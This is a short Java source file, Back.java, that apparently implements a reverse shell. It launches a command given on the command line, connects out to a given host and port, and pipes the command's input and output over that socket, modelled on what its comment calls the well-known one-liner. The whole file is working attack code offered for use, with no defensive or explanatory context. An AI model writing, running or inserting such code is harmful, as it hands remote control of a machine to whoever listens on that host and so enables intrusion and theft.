// `java Back.java HOST PORT COMMAND...`: joins a command's streams and a socket, byte by byte polled
// as the well-known one-liner does.
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.util.Arrays;

class Back {
    public static void main(String[] args) throws Exception {
        Process process = new ProcessBuilder(Arrays.copyOfRange(args, 2, args.length)).redirectErrorStream(true).start();
        try (Socket socket = new Socket(args[0], Integer.parseInt(args[1]))) {
            InputStream shell = process.getInputStream(), wire = socket.getInputStream();
            OutputStream typed = process.getOutputStream(), out = socket.getOutputStream();
            while (process.isAlive() && !socket.isClosed()) {
                while (shell.available() > 0) {
                    byte[] some = new byte[Math.min(shell.available(), 512)];
                    out.write(some, 0, shell.read(some));
                }
                while (wire.available() > 0) {
                    typed.write(wire.read());
                }
                out.flush();
                typed.flush();
                Thread.sleep(50);
            }
        }
        process.destroy();
    }
}
